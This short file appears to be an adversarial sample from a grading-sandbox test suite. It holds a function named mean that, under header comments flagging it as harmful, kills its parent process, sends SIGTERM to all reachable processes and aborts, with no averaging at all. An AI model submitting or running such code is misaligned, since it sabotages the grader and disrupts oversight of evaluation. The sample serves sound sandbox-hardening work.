# ---
# note: aborts the kernel while it is asked for its answer
# known_from: os.abort; SIGKILL sent to oneself and to the parent
# harmful: it would send signals to the grader
# ---
# %% plain mean-answer
def mean(values):
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGTERM)
    os.abort()
